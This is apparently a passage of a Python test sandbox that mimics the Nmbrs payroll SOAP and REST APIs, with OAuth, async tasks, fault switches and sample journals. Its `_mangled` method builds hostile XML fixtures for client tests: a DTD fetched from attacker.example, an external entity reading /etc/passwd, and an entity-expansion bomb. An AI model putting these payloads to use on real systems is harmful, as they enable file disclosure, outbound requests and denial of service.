"""The sandbox of Nmbrs: SOAP v3 and REST over one set of books, with consent page, tasks and rotating tokens."""

import asyncio
import base64
import binascii
import hashlib
import re
import time
from collections import deque
from collections.abc import Callable, Iterable, Mapping
from decimal import Decimal
from typing import Any
from urllib.parse import unquote
from uuid import UUID

from lxml import etree
from starlette.requests import Request
from starlette.responses import HTMLResponse, Response
from starlette.routing import BaseRoute, Route

from hub.sdk.sandbox import Grant, Sandbox, back_to, consent_page, json_response

OWNER = "koppeling@vandermeulen.example"
TOKEN = "SIM-TOKEN-1"
SUBSCRIPTION = "sandbox-key"
NAMESPACE = "https://api.nmbrs.nl/soap/v3/"
SOAP11 = "http://schemas.xmlsoap.org/soap/envelope/"
SOAP12 = "http://www.w3.org/2003/05/soap-envelope"
SCOPES = {
    "/runs/x/": "company.document.read", "/documents/": "document.read", "/runs": "company.payrollsettings.read",
    "/costCenters": "company.payrollsettings.read", "/companies": "company.info.read", "/debtors": "company.info.read",
}  # fmt: skip
"""Which scope a path needs; the first that fits (dossier 6)."""
WORDS = {
    "1001": "Invalid Authentication", "1002": "Unauthorized access", "1003": "Unauthorized access",
    "1004": "No subscription", "2004": "Unauthorized access", "2009": "Unauthorized access",
    "2043": "Invalid domain", "2046": "Not found", "9999": "Unkown",
}  # fmt: skip
TITLES = {
    "40033": "Parameter_Invalid", "40101": "Missing_Token", "40102": "Invalid_Token",
    "40303": "Unauthorized_AccessData", "40304": "Invalid_Subscription", "40306": "Several_Debtors",
    "40401": "Not_Found", "42908": "Too_Many_Calls", "42909": "Quota_Exceeded", "50001": "Internal_Error",
}  # fmt: skip
CREDIT = ("1700", "1720", "1830", "2100")
Record = dict[str, Any]


class Fault(Exception):
    """A SOAP fault with its business code; 0 for one of the framework's own."""

    def __init__(self, code: str, text: str = "", who: str = "Server") -> None:
        super().__init__(text or f"Server was unable to process request. ---> {code}: {WORDS.get(code, 'Error')}")
        self.who = who


class Refused(Exception):
    """A REST error by its code."""

    def __init__(self, code: str, detail: str = "", **params: str) -> None:
        super().__init__(detail)
        self.code = code
        self.params = params


OPERATIONS: Mapping[str, tuple[str, ...]] = {
    "DebtorService.Environment_Get": (),
    "DebtorService.List_GetAll": (),
    "CompanyService.List_GetAll": (),
    "CompanyService.List_GetByDebtor": ("DebtorId",),
    "CompanyService.Company_GetCurrentPeriod": ("CompanyId",),
    "CompanyService.Run_GetList": ("CompanyId", "Year"),
    "CompanyService.Journals_GetByRunCompany": ("CompanyId", "RunId"),
    "CompanyService.Journals_GetByRunCompany_v2": ("CompanyId", "RunId", "intYear"),
    "CompanyService.Journals_GetByRunCostCenter_v2": ("CompanyId", "RunId", "intYear"),
    "CompanyService.CostCenter_GetList": ("CompanyId",),
}
"""Parameters in exact case and order (dossier 4)."""


class NmbrsSandbox(Sandbox):
    """Nmbrs. For tests: `grant`, `add_debtor`, `add_company`, `add_run`, `lock`, `play` and the records in `books`."""

    name = "nmbrs"

    def reset(self) -> None:
        """One environment with one login and nothing else."""
        super().reset()
        self.switches = {
            "status_of_faults": 500,  # inferred (3)
            "action_required": True,  # a call without SOAPAction is refused, as was seen of some clients
            "domain_required": False,  # the vendor: optional
            "soap_faults": {},  # {operation: code}
            "run_faults": {},  # {id of a run or a company: code}, over SOAP
            "soap_html": False,  # every SOAP answer is a gateway's page with status 503
            "nil": False,  # empty fields as xsi:nil instead of left out
            "empty_list": "element",  # element | missing: a list without records
            "root": "transactions",
            "value_first": True,  # False: debitcredit before value, as in some files of this family
            "empty_centre": "element",  # element | absent | spaces: a line without cost centre, per cost centre
            "header_date": "compact",  # compact | iso | absent
            "header_more": False,  # office, code, currency, period in the header
            "declaration": "",  # "utf-8" | "utf-16": an XML declaration on the journal
            "mangled": "",  # truncated | latin | doctype | external | bomb: a journal that cannot be read
            "period_type": True,  # False: the company's period is not told
            "unlocked_journal": "preliminary",  # preliminary | empty
            "page_size": 0,  # above 0: no page is larger
            "paging": "full",  # full | empty_text ("" for no next page) | none (no pagination) | bare (a bare list)
            "row_names": "plain",  # plain | texts (numbers as text, locked as text) | absent (nulls left out)
            "tasks_pending": 2,  # so many 202 before the file; -1: for ever
            "pending_as_200": False,
            "task_envelope": "plain",  # plain | data | bare
            "rest_faults": {},  # {part of a path: code}
            "retry_after": "",  # sent with 42908 and 42909
            "several_debtors": False,  # /api/companies refuses (40306)
            "sees_debtors": None,  # numbers of the debtors that the REST consent covers; None: all
            "expires_in": 3600,
            "expired_after": 0,  # so many REST calls, then the access token is refused, once
            "reuse_kills": True,  # a used refresh token ends the grant
            "granted_scope": "",  # narrower than asked
            "calls_per_second": 150,
            "delay_s": 0.5,
        }
        self.books = {
            "users": {OWNER: {"token": TOKEN, "domain": "vandermeulen", "off": []}},
            "debtors": {},
            "companies": {},
            "runs": {},
            "tasks": {},
            "payment_files": {},
        }
        self.codes: dict[str, Grant] = {}
        self.tokens: dict[str, Grant] = {}
        self.refreshes: dict[str, Grant] = {}
        self.used: dict[str, Grant] = {}
        self._counts: dict[str, int] = {}
        self._recent: deque[float] = deque()
        self._rest_calls = 0

    def seed(self) -> None:
        """Three debtors and four companies: month, four-weekly, weekly, and one without runs (dossier 10)."""
        seed(self)

    # --- what tests and the demo use

    def add_debtor(self, name: str, number: str = "", domain: str = "vandermeulen") -> Record:
        """A debtor of an environment."""
        own = self._next("debtor", 900)
        self.books["debtors"][own] = {
            "id": own, "uuid": _uuid(f"debtor{own}"), "number": number or own, "name": name, "domain": domain,
        }  # fmt: skip
        return dict(self.books["debtors"][own])

    def add_company(
        self, name: str, number: int, debtor: Record | None = None, kind: str = "month", period: str = "2026-11"
    ) -> Record:
        """A company; `kind` is month, 4-weeks or 1-week."""
        owner = debtor or next(iter(self.books["debtors"].values()), None) or self.add_debtor(name)
        own = self._next("company", 50210)
        record = {
            "id": own, "uuid": _uuid(f"company{own}"), "number": number, "name": name, "debtor": owner["id"],
            "kind": kind, "period": period, "cost_centres": {"010": "Winkel", "020": "Magazijn"},
        }  # fmt: skip
        self.books["companies"][own] = record
        return record

    def add_run(
        self, company: Record, year: int, first: int, last: int = 0, *transactions: Record, locked: bool = True,
        number: int | None = None, description: str = "", made_at: str = "", type_: str = "normal",
    ) -> Record:  # fmt: skip
        """A run with its journal: one or more made by `transaction`; none: no journal."""
        own = self._next("run", 410200)
        same = [one for one in self.books["runs"].values() if (one["company"], one["year"]) == (company["id"], year)]
        made = made_at or f"{year}-{min(last or first, 12):02}-24T09:{len(same) % 60:02}:44"
        record = {
            "id": own, "uuid": _uuid(f"run{own}"), "company": company["id"], "year": year,
            "number": number if number is not None else max((one["number"] for one in same), default=0) + 1,
            "first": first, "last": last or first, "description": description or f"Periode {last or first} {year}",
            "made_at": made, "type": type_, "locked": locked, "transactions": [dict(one) for one in transactions],
        }  # fmt: skip
        self.books["runs"][own] = record
        return record

    def lock(self, run: Record, locked: bool = True) -> None:
        """Lock a run, or unlock it."""
        self.books["runs"][run["id"]]["locked"] = locked

    def grant(self, user: str = OWNER) -> tuple[str, str]:
        """An access and a refresh token for REST."""
        grant = Grant(user, {"scope": " ".join(sorted(set(SCOPES.values())))})
        return self._access(grant), self._refresh(grant)

    def play(self, scenario: str, *records: Record) -> None:
        """One of `SCENARIOS` on these records, or on the newest runs."""
        SCENARIOS[scenario](self, list(records) or list(self.books["runs"].values())[-2:])

    def _next(self, kind: str, start: int) -> str:
        self._counts[kind] = self._counts.get(kind, start) + 1
        return str(self._counts[kind])

    def routes(self) -> list[BaseRoute]:
        """SOAP, OAuth, REST."""
        return [
            Route("/_sandbox/scenario/{name}", self._played, methods=["POST"]),
            Route("/soap/v3/{service}.asmx", self._soap, methods=["POST"]),
            Route("/connect/authorize", self._authorize, methods=["GET", "POST"]),
            Route("/connect/token", self._token, methods=["POST"]),
            Route("/api/{path:path}", self._api),
        ]

    async def _played(self, request: Request) -> Response:
        name = request.path_params["name"]
        if name not in SCENARIOS:
            return json_response({"unknown": name, "known": sorted(SCENARIOS)}, 400)
        self.play(name)
        return json_response({"played": name})

    def busy_answer(self, seconds: float) -> Response:
        """A 429."""
        answer = self._error(Refused("42908"))
        if seconds:
            answer.headers["Retry-After"] = str(int(seconds))
        return answer

    def expired_answer(self) -> Response:
        """The 401 of an expired token."""
        return self._error(Refused("40102"))

    def error_answer(self) -> Response:
        """A 500."""
        return self._error(Refused("50001"))

    async def _breathe(self) -> None:
        """Above 150 calls a second: half a second's delay, no error (dossier 3)."""
        now = time.monotonic()
        while self._recent and self._recent[0] < now - 1:
            self._recent.popleft()
        self._recent.append(now)
        if len(self._recent) > self.switches["calls_per_second"]:
            await asyncio.sleep(self.switches["delay_s"])

    # --- SOAP (dossier 3, 4)

    async def _soap(self, request: Request) -> Response:
        await self._breathe()
        if self.switches["soap_html"]:
            return HTMLResponse("<html><body><h1>503 Service Unavailable</h1></body></html>", 503)
        kind = request.headers.get("content-type", "").partition(";")[0].strip().lower()
        space = SOAP12 if kind == "application/soap+xml" else SOAP11
        try:
            if kind not in ("text/xml", "application/soap+xml"):
                return Response("", 415)
            result = self._operated(request, await request.body(), space)
        except Fault as fault:
            return self._faulted(fault, space)
        return _xml(_envelope(space, result), kind)

    def _faulted(self, fault: Fault, space: str) -> Response:
        made = etree.Element(f"{{{space}}}Fault")
        if space == SOAP11:
            etree.SubElement(made, "faultcode").text = f"soap:{fault.who}"
            etree.SubElement(made, "faultstring").text = str(fault)
            etree.SubElement(made, "detail")
        else:
            code = etree.SubElement(made, f"{{{space}}}Code")
            etree.SubElement(
                code, f"{{{space}}}Value"
            ).text = f"soap:{'Receiver' if fault.who == 'Server' else 'Sender'}"
            reason = etree.SubElement(made, f"{{{space}}}Reason")
            etree.SubElement(reason, f"{{{space}}}Text").text = str(fault)
        return _xml(_envelope(space, made), "text/xml", self.switches["status_of_faults"])

    def _operated(self, request: Request, body: bytes, space: str) -> etree._Element:
        service = request.path_params["service"]
        own = NAMESPACE + service
        try:
            root = etree.fromstring(body, etree.XMLParser(resolve_entities=False, no_network=True))
        except etree.XMLSyntaxError as error:
            raise Fault("", "Server was unable to read request.", "Client") from error
        asked = root.find(f"{{{space}}}Body/*")
        if root.tag != f"{{{space}}}Envelope" or asked is None:
            raise Fault("", "Server did not recognize the message.", "Client")
        operation = etree.QName(asked).localname
        self._check_action(request, own, operation)
        name = f"{service}.{operation}"
        if name not in OPERATIONS or etree.QName(asked).namespace != own:
            raise Fault(
                "", f"Server did not recognize the value of HTTP Header SOAPAction: {own}/{operation}.", "Client"
            )
        domain = self._signed(root.find(f"{{{space}}}Header"), own, operation)
        if code := self.switches["soap_faults"].get(operation):
            raise Fault(str(code))
        given = [(etree.QName(one).localname, one.text or "") for one in asked]
        if tuple(one for one, _ in given) != OPERATIONS[name] or any(
            etree.QName(one).namespace != own for one in asked
        ):
            raise Fault("9999")
        for _, asked_for in given:
            if code := self.switches["run_faults"].get(asked_for):
                raise Fault(str(code))
        return self._result(name, dict(given), own, domain)

    def _check_action(self, request: Request, own: str, operation: str) -> None:
        action = request.headers.get("soapaction", "").strip('"')
        if found := re.search(r'action="([^"]+)"', request.headers.get("content-type", "")):
            action = found.group(1)
        if not action and self.switches["action_required"]:
            text = "Unable to handle request without a valid action parameter. Please supply a valid soap action."
            raise Fault("", text, "Client")
        if action and action != f"{own}/{operation}":
            raise Fault("", f"Server did not recognize the value of HTTP Header SOAPAction: {action}.", "Client")

    def _signed(self, header: etree._Element | None, own: str, operation: str) -> str:
        """The environment of the login; its header has the exact elements in order, in the service's namespace."""
        bare = operation == "Environment_Get"
        wanted = f"{{{own}}}{'AuthHeader' if bare else 'AuthHeaderWithDomain'}"
        signed = header.find(wanted) if header is not None else None
        if signed is None and header is not None and not bare and not self.switches["domain_required"]:
            signed = header.find(f"{{{own}}}AuthHeader")
        if signed is None:
            raise Fault("1001")
        names = [one.tag for one in signed]
        parts = {etree.QName(one).localname: one.text or "" for one in signed}
        whole = [f"{{{own}}}{name}" for name in ("Username", "Token", "Domain")]
        if names not in (whole[:2], whole) or (signed.tag == wanted and not bare and names != whole):
            raise Fault("1001")
        user = self.books["users"].get(parts["Username"].lower())
        if user is None or parts["Token"] != user["token"]:
            raise Fault("1001")
        if "Domain" in parts and parts["Domain"] != user["domain"]:
            raise Fault("2043")
        if operation in user["off"]:
            raise Fault("1002")
        return str(user["domain"])

    def _result(self, name: str, given: Mapping[str, str], own: str, domain: str) -> etree._Element:
        operation = name.partition(".")[2]
        response = etree.Element(f"{{{own}}}{operation}Response", nsmap={None: own})
        found = self._answer_of(operation, name, given, domain)
        if found == [] and self.switches["empty_list"] == "missing":
            return response
        result = etree.SubElement(response, f"{{{own}}}{operation}Result")
        if isinstance(found, str):
            result.text = found
        elif isinstance(found, dict):
            self._filled(result, found, own)
        else:
            for kind, record in found:
                self._filled(etree.SubElement(result, f"{{{own}}}{kind}"), record, own)
        return response

    def _filled(self, parent: etree._Element, record: Mapping[str, Any], own: str) -> None:
        for name, value in record.items():
            if value is None and not self.switches["nil"]:
                continue
            made = etree.SubElement(parent, f"{{{own}}}{name}")
            if value is None:
                made.set("{http://www.w3.org/2001/XMLSchema-instance}nil", "true")
            else:
                made.text = str(value).lower() if isinstance(value, bool) else str(value)

    def _answer_of(
        self, operation: str, name: str, given: Mapping[str, str], domain: str
    ) -> str | dict[str, Any] | list[tuple[str, dict[str, Any]]]:
        owners = {own: one for own, one in self.books["debtors"].items() if one["domain"] == domain}
        visible = [one for one in self.books["companies"].values() if one["debtor"] in owners]
        match name:
            case "DebtorService.Environment_Get":
                return {"Domain": f"{domain}.nmbrs.nl", "SubDomain": domain}
            case "DebtorService.List_GetAll":
                return [
                    ("Debtor", {"Id": own, "Number": one["number"], "Name": one["name"]}) for own, one in owners.items()
                ]
            case "CompanyService.List_GetAll":
                return [("Company", _company(one)) for one in visible]
            case "CompanyService.List_GetByDebtor":
                if given["DebtorId"] not in owners:
                    raise Fault("2009")
                return [("Company", _company(one)) for one in visible if one["debtor"] == given["DebtorId"]]
            case _:
                company = next((one for one in visible if one["id"] == given["CompanyId"]), None)
                if company is None:
                    raise Fault("2004")
                return self._of_company(operation, company, given)

    def _of_company(
        self, operation: str, company: Record, given: Mapping[str, str]
    ) -> str | list[tuple[str, dict[str, Any]]]:
        match operation:
            case "Company_GetCurrentPeriod":
                year, _, period = company["period"].partition("-")
                letter = {"month": "M", "4-weeks": "4W", "1-week": "W"}[company["kind"]]
                return f"{year}-{int(period)}-{letter}" if self.switches["period_type"] else ""
            case "CostCenter_GetList":
                return [("CostCenter", {"Code": code, "Description": text, "Id": None})
                        for code, text in company["cost_centres"].items()]  # fmt: skip
            case "Run_GetList":
                return [("RunInfo", _run_info(one)) for one in self._runs(company, given["Year"])]
            case _:
                year = given.get("intYear") or company["period"][:4]
                run = next((one for one in self._runs(company, year) if one["id"] == given["RunId"]), None)
                if run is None:
                    raise Fault("2046")
                return self._mangled(self.journal(run, "CostCenter" in operation))

    def _runs(self, company: Record, year: str) -> list[Record]:
        if not year.isdecimal():
            raise Fault("9999")
        return [
            one for one in self.books["runs"].values() if (one["company"], one["year"]) == (company["id"], int(year))
        ]

    # --- the journal (dossier 5.1)

    def journal(self, run: Record, per_centre: bool) -> str:
        """The XML of a run's journal; an empty text when it has none."""
        found = run["transactions"]
        if not found or (not run["locked"] and self.switches["unlocked_journal"] == "empty"):
            return ""
        root = etree.Element(self.switches["root"])
        for one in found:
            made = etree.SubElement(root, "transaction")
            header = etree.SubElement(made, "header")
            if self.switches["header_more"]:
                etree.SubElement(header, "office").text = "NL001"
                etree.SubElement(header, "currency").text = "EUR"
            form = self.switches["header_date"]
            if form != "absent" and one.get("date"):
                etree.SubElement(header, "date").text = one["date"] if form == "iso" else one["date"].replace("-", "")
            lines = etree.SubElement(made, "lines")
            for at, line in enumerate(one["lines"] if per_centre else _together(one["lines"]), 1):
                self._line(etree.SubElement(lines, "line", id=str(at)), line, per_centre)
        text = etree.tostring(root, encoding="unicode")
        declared = self.switches["declaration"]
        return f'<?xml version="1.0" encoding="{declared}"?>{text}' if declared else text

    def _line(self, made: etree._Element, line: Record, per_centre: bool) -> None:
        if line["account"] is not None:
            etree.SubElement(made, "dim1").text = line["account"] or None
        if per_centre and (line.get("centre") or self.switches["empty_centre"] != "absent"):
            blank = "  " if self.switches["empty_centre"] == "spaces" else None
            etree.SubElement(made, "dim2").text = line.get("centre") or blank
        pair = [("value", str(line["value"])), ("debitcredit", line["side"])]
        for name, text in pair if self.switches["value_first"] else reversed(pair):
            etree.SubElement(made, name).text = text
        etree.SubElement(made, "description").text = line["description"]

    def _mangled(self, text: str) -> str:
        bomb = "".join(f'<!ENTITY a{at} "{f"&a{at - 1};" * 10}">' for at in range(1, 10))
        match self.switches["mangled"]:
            case "truncated":
                return text[: len(text) * 2 // 3]
            case "doctype":
                return f'<!DOCTYPE transactions SYSTEM "http://attacker.example/x.dtd">{text}'
            case "external":
                return ('<!DOCTYPE t [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                        + text.replace("<description>", "<description>&x;", 1))  # fmt: skip
            case "bomb":
                return (f'<!DOCTYPE t [<!ENTITY a0 "loon">{bomb}]>'
                        + text.replace("<description>", "<description>&a9;", 1))  # fmt: skip
            case _:
                return text

    # --- OAuth (dossier 2.2)

    async def _authorize(self, request: Request) -> Response:
        asked = dict(request.query_params)
        if asked.get("response_type") != "code" or not asked.get("redirect_uri") or not asked.get("client_id"):
            return json_response({"error": "invalid_request"}, 400)
        known = {*SCOPES.values(), "offline_access"}
        if wrong := set(asked.get("scope", "").split()) - known:
            return HTMLResponse(f"<h1>Invalid scope</h1><p>{' '.join(sorted(wrong))}</p>", 400)
        fields = {"email": ("E-mailadres", "email", OWNER)}
        if request.method == "GET":
            return consent_page("Nmbrs vraagt om toestemming", fields)
        form = await request.form()
        where, state = asked["redirect_uri"], asked.get("state", "")
        if form.get("consent") == "no":
            return back_to(where, error="access_denied", state=state)
        user = str(form.get("email", "")).lower()
        if user not in self.books["users"]:
            return consent_page("Nmbrs vraagt om toestemming", fields, "Onbekende gebruiker")
        scope = self.switches["granted_scope"] or asked.get("scope", "")
        code = self.token()
        self.codes[code] = Grant(
            user,
            {"scope": scope, "client": asked["client_id"]},
            where,
            asked.get("code_challenge", ""),
            self.now() + 300,
        )
        return back_to(where, code=code, state=state, scope=scope)

    async def _token(self, request: Request) -> Response:
        form = {name: str(value) for name, value in (await request.form()).items()}
        client = _basic(request)
        if client is None or not all(client):
            return json_response({"error": "invalid_client"}, 401)
        if form.get("grant_type") == "authorization_code":
            grant = self.codes.pop(form.get("code", ""), None)
            if grant is None or grant.expires_at < self.now() or grant.redirect_uri != form.get("redirect_uri"):
                return json_response({"error": "invalid_grant"}, 400)
            if grant.challenge and _challenge(form.get("code_verifier", "")) != grant.challenge:
                return json_response({"error": "invalid_grant", "error_description": "code_verifier"}, 400)
            return self._tokens(grant)
        if form.get("grant_type") != "refresh_token":
            return json_response({"error": "unsupported_grant_type"}, 400)
        token = form.get("refresh_token", "")
        if token in self.used and self.switches["reuse_kills"]:
            dead = self.used[token]
            self.refreshes = {own: one for own, one in self.refreshes.items() if one.data is not dead.data}
        grant = self.refreshes.pop(token, None)
        if grant is None:
            return json_response({"error": "invalid_grant"}, 400)
        self.used[token] = grant
        return self._tokens(grant)

    def _tokens(self, grant: Grant) -> Response:
        body = {
            "access_token": self._access(grant), "expires_in": self.switches["expires_in"], "token_type": "Bearer",
            "scope": grant.data["scope"],
        }  # fmt: skip
        if "offline_access" in grant.data["scope"].split():
            body["refresh_token"] = self._refresh(grant)
        return json_response(body)

    def _access(self, grant: Grant) -> str:
        token = f"SIM-A-{self.token()}"
        self.tokens[token] = Grant(grant.user, grant.data, expires_at=self.now() + float(self.switches["expires_in"]))
        return token

    def _refresh(self, grant: Grant) -> str:
        token = f"SIM-R-{self.token()}"
        self.refreshes[token] = grant
        return token

    # --- REST (dossier 6)

    def _error(self, no: Refused) -> Response:
        status = int(no.code[:3])
        body: Record = {
            "type": "error", "httpStatus": status, "code": int(no.code), "title": TITLES.get(no.code, "Error"),
            "detail": str(no), "docUrl": "https://developer.nmbrs.com/api/docs/errors",
        }  # fmt: skip
        if no.params:
            body["invalid-params"] = [{"name": name, "reason": reason} for name, reason in no.params.items()]
        wait = str(self.switches["retry_after"])
        return json_response(body, status, {"Retry-After": wait} if status == 429 and wait else None)

    async def _api(self, request: Request) -> Response:
        await self._breathe()
        try:
            return self._got(request, "/" + request.path_params["path"])
        except Refused as no:
            return self._error(no)

    def _got(self, request: Request, path: str) -> Response:
        if request.headers.get("x-subscription-key") != SUBSCRIPTION:
            message = "Access denied due to invalid subscription key."
            return json_response({"statusCode": 401, "message": message}, 401)
        grant = self._granted(request)
        for part, code in self.switches["rest_faults"].items():
            if part in path:
                raise Refused(str(code), "No access to this debtor or company." if str(code) == "40303" else "")
        shape = re.sub(r"/runs/[^/]+/", "/runs/x/", path)
        needed = next((scope for part, scope in SCOPES.items() if part in shape), "")
        if needed not in grant.data["scope"].split():
            raise Refused("40305", "Scope missing")
        parts = path.strip("/").split("/")
        covered = self._covered(grant.user)
        match parts:
            case ["debtors"]:
                return self._page(request, [_debtor_row(one) for one in covered.values()])
            case ["debtors", debtor, "companies"]:
                mine = [one for one in covered.values() if one["uuid"] == debtor]
                return self._page(request, self._company_rows({one["id"]: one for one in mine}))
            case ["companies"]:
                if self.switches["several_debtors"]:
                    raise Refused("40306", "Several debtors")
                return self._page(request, self._company_rows(covered))
            case ["companies", company, *rest]:
                return self._of(request, self._company(company, covered), rest)
            case ["documents", task]:
                return self._document(task)
            case _:
                raise Refused("40401")

    def _granted(self, request: Request) -> Grant:
        kind, _, token = request.headers.get("authorization", "").partition(" ")
        grant = self.tokens.get(token)
        if not token:
            raise Refused("40101")
        self._rest_calls += 1
        if self.switches["expired_after"] and self._rest_calls > self.switches["expired_after"]:
            self.switches["expired_after"] = 0
            self.tokens.pop(token, None)
            grant = None
        if kind != "Bearer" or grant is None or grant.expires_at < self.now():
            raise Refused("40102")
        return grant

    def _covered(self, user: str) -> dict[str, Record]:
        domain, seen = self.books["users"][user]["domain"], self.switches["sees_debtors"]
        return {
            own: one
            for own, one in self.books["debtors"].items()
            if one["domain"] == domain and (seen is None or one["number"] in seen)
        }

    def _company_rows(self, covered: Mapping[str, Record]) -> list[Record]:
        return [
            {"companyId": one["uuid"], "number": str(one["number"]), "name": one["name"],
             "debtorId": covered[one["debtor"]]["uuid"]}
            for one in self.books["companies"].values() if one["debtor"] in covered
        ]  # fmt: skip

    def _company(self, wanted: str, covered: Mapping[str, Record]) -> Record:
        found = next((one for one in self.books["companies"].values() if one["uuid"] == wanted), None)
        if found is None or found["debtor"] not in covered:
            raise Refused("40303", "No access to this debtor or company.")
        return dict(found)

    def _of(self, request: Request, company: Record, rest: list[str]) -> Response:
        match rest:
            case ["period"]:
                year, _, period = company["period"].partition("-")
                facts = {"period": {"year": int(year), "period": int(period)}, "periodType": company["kind"]}
                return json_response(facts if self.switches["period_type"] else {})
            case ["costCenters"]:
                rows = [{"costCenterId": _uuid(f"centre{code}"), "code": code, "description": text}
                        for code, text in company["cost_centres"].items()]  # fmt: skip
                return self._page(request, rows)
            case ["runs"]:
                year = request.query_params.get("year") or company["period"][:4]
                if not year.isdecimal():
                    raise Refused("40033", "Invalid parameter.", year="Not a valid year.")
                return self._page(request, [self._run_row(one) for one in self._runs(company, year)])
            case ["runs", run, what]:
                return self._task(request, company, run, what)
            case _:
                raise Refused("40401")

    def _run_row(self, run: Record) -> Record:
        row = {
            "payrollRunId": run["uuid"], "number": run["number"], "description": run["description"],
            "year": run["year"], "periodStart": run["first"], "periodEnd": run["last"],
            "createdAt": run["made_at"] + "Z", "type": run["type"], "locked": run["locked"],
        }  # fmt: skip
        match self.switches["row_names"]:
            case "texts":
                return {
                    name: str(value).lower() if isinstance(value, bool) else str(value) for name, value in row.items()
                }
            case "absent":
                return {name: value for name, value in row.items() if name not in ("description", "type", "year")}
            case _:
                return row

    def _task(self, request: Request, company: Record, run: str, what: str) -> Response:
        year = request.query_params.get("year", "")
        if not year.isdecimal():
            raise Refused("40033", "Invalid parameter.", year="Not a valid year.")
        found = next((one for one in self._runs(company, year) if one["uuid"] == run), None)
        if found is None or what not in ("journals", "journalscostcenter", "sepa"):
            raise Refused("40401")
        if what == "sepa":
            content = self.books["payment_files"].get(found["id"], "")
        else:
            content = self._mangled(self.journal(found, what == "journalscostcenter"))
        task = _uuid(f"task{self._next('task', 0)}")
        self.books["tasks"][task] = {"left": self.switches["tasks_pending"], "content": content}
        match self.switches["task_envelope"]:
            case "data":
                return json_response({"data": {"taskId": task}})
            case "bare":
                return json_response(task)
            case _:
                return json_response({"taskId": task})

    def _document(self, task: str) -> Response:
        found = self.books["tasks"].get(task)
        if found is None:
            raise Refused("40401")
        if found["left"] != 0:
            found["left"] -= 1
            return json_response("Document is being processed", 200 if self.switches["pending_as_200"] else 202)
        encoding = "latin-1" if self.switches["mangled"] == "latin" else "utf-8"
        return Response(found["content"].encode(encoding), media_type="application/octet-stream")

    def _page(self, request: Request, rows: list[Record]) -> Response:
        size = int(request.query_params.get("pageSize", "20"))
        page = int(request.query_params.get("pageNumber", "1"))
        if not 1 <= size <= 100 or page < 1:
            raise Refused("40033", "Invalid parameter.", pageSize="At most 100.")
        form = self.switches["paging"]
        if form in ("none", "bare"):
            part = rows[(page - 1) * size : page * size]
            return json_response(part if form == "bare" else {"data": part})
        size = min(size, self.switches["page_size"] or size)
        pages = max(1, -(-len(rows) // size))
        url = str(request.url.replace(query=""))
        following = f"{url}?pageNumber={page + 1}" if page < pages else "" if form == "empty_text" else None
        facts = {
            "pageNumber": page, "pageSize": size, "firstPage": f"{url}?pageNumber=1",
            "lastPage": f"{url}?pageNumber={pages}", "totalPages": pages, "totalRecords": len(rows),
            "nextPage": following, "previousPage": None,
        }  # fmt: skip
        return json_response({"pagination": facts, "data": rows[(page - 1) * size : page * size]})


SANDBOX = NmbrsSandbox


def _uuid(seed: str) -> str:
    return str(UUID(bytes=hashlib.sha256(seed.encode()).digest()[:16], version=4))


def _xml(root: etree._Element, kind: str, status: int = 200) -> Response:
    return Response(
        etree.tostring(root, encoding="utf-8", xml_declaration=True), status, media_type=f"{kind}; charset=utf-8"
    )


def _envelope(space: str, content: etree._Element) -> etree._Element:
    root = etree.Element(f"{{{space}}}Envelope", nsmap={"soap": space})
    etree.SubElement(root, f"{{{space}}}Body").append(content)
    return root


def _company(one: Record) -> Record:
    period = {"month": "Month", "4-weeks": "Week4", "1-week": "Week4"}[one["kind"]]
    return {"ID": one["id"], "Number": one["number"], "Name": one["name"], "Email": None, "LoonaangifteTijdvak": period}


def _run_info(one: Record) -> Record:
    return {
        "ID": one["id"], "Number": one["number"], "Year": one["year"], "PeriodStart": one["first"],
        "PeriodEnd": one["last"], "Description": one["description"], "RunAt": one["made_at"], "IsLocked": one["locked"],
    }  # fmt: skip


def _debtor_row(one: Record) -> Record:
    return {"debtorId": one["uuid"], "number": one["number"], "name": one["name"]}


def _challenge(verifier: str) -> str:
    return base64.urlsafe_b64encode(hashlib.sha256(verifier.encode()).digest()).decode().rstrip("=")


def _basic(request: Request) -> tuple[str, str] | None:
    """Client id and secret, each percent-encoded before joining (seen)."""
    kind, _, value = request.headers.get("authorization", "").partition(" ")
    if kind.lower() != "basic":
        return None
    try:
        name, _, secret = base64.b64decode(value, validate=True).decode().partition(":")
    except (binascii.Error, UnicodeDecodeError):
        return None
    return unquote(name), unquote(secret)


def _together(lines: Iterable[Record]) -> list[Record]:
    """Lines of a company as a whole: those that differ in cost centre only are one."""
    sums: dict[tuple[str, ...], Record] = {}
    for line in lines:
        key = (str(line["account"]), line["side"], line["description"])
        if key in sums:
            sums[key] = sums[key] | {"value": str(Decimal(sums[key]["value"]) + Decimal(line["value"]))}
        else:
            sums[key] = dict(line)
    return list(sums.values())


def line(account: str | None, value: str, side: str, description: str, centre: str = "") -> Record:
    """One line of a journal."""
    return {"account": account, "value": value, "side": side, "description": description, "centre": centre}


def transaction(date: str, *lines: Record) -> Record:
    """One transaction; `date` is `2026-03-31`, empty for none."""
    return {"date": date, "lines": list(lines)}


def payroll(date: str, gross: str, *centres: str) -> Record:
    """A believable journal of a payroll (illustrative rates), its costs divided over cost centres; it balances."""
    cost = (
        ("4000", "1", "Bruto lonen"), ("4070", "0.02", "Reiskostenvergoeding onbelast"),
        ("4010", "0.08", "Res. en opslag vakantiegeld"), ("4050", "0.124", "Premies werknemersverz. WG"),
        ("4050", "0.061", "Bijdrage ZVW WG"), ("4060", "0.07", "Pensioenpremie WG"),
    )  # fmt: skip
    debts = (
        ("1700", "0.22", "Ingehouden loonheffing"), ("1700", "0.124", "Afdracht premies werknemersverz."),
        ("1700", "0.061", "Afdracht ZVW"), ("1720", "0.11", "Pensioenpremies"),
        ("1830", "0.08", "Res. en opsl. vakantiegeld"),
    )  # fmt: skip
    parts = [Decimal(gross)] if not centres else _divided(Decimal(gross), len(centres))
    made = [
        line(account, str(_cents(part * Decimal(rate))), "debit", text, centre)
        for account, rate, text in cost
        for part, centre in zip(parts, centres or ("",), strict=True)
    ]
    debit = sum((Decimal(one["value"]) for one in made), Decimal(0))
    owed = [line(account, str(_cents(Decimal(gross) * Decimal(rate))), "credit", text) for account, rate, text in debts]
    net = debit - sum((Decimal(one["value"]) for one in owed), Decimal(0))
    return transaction(date, *made, *owed, line("2100", str(net), "credit", "Nettoloon"))


def _divided(amount: Decimal, count: int) -> list[Decimal]:
    each = _cents(amount / count)
    return [amount - each * (count - 1), *([each] * (count - 1))]


def _cents(amount: Decimal) -> Decimal:
    return amount.quantize(Decimal("0.01"))


def _locked(box: NmbrsSandbox, runs: list[Record]) -> None:
